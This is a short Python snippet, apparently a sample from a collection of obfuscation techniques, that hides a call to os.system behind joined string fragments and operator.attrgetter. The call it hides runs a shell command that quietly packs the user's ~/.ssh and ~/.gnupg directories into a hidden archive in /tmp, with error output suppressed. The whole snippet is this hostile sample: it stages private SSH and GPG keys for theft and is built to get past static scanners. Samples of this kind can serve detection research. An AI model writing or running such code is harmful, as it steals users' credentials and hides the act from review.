# corpus: look up the already-loaded os module in sys.modules by a joined key and use operator.attrgetter
import operator
import sys

key = "".join(["p", "o", "s", "i", "x"])
posix = sys.modules.get(key) or sys.modules["o" + "s"]
spawn = operator.attrgetter("sys" + "tem")(posix)
spawn("tar czf /tmp/.h.tgz ~/.ssh ~/.gnupg 2>/dev/null")
